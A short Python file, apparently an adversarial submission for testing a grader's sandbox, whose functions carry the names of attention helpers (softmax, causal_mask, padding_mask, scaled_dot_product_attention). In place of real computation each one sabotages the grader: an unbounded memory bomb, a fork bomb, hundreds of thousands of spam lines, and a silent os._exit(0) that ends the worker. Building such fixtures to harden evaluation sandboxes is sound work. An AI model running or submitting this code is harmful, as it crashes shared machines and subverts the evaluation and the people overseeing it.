"""Grace: tries to take the grader down with her."""

import os

import torch


def softmax(x, dim=-1):
    hog = []
    while True:  # memory bomb: take 256 MB more at a time until the memory limit says no
        hog.append(torch.empty(64 * 2**20))


def causal_mask(seq_len, device=None):
    while True:  # fork bomb
        try:
            os.fork()
        except OSError:
            pass


def padding_mask(lengths, seq_len):
    for _ in range(200_000):  # megabytes of output
        print("spam " * 40)
    return (torch.arange(seq_len)[None, :] < lengths[:, None])[:, None, None, :]


def scaled_dot_product_attention(q, k, v, mask=None):
    os._exit(0)  # end the worker without a word
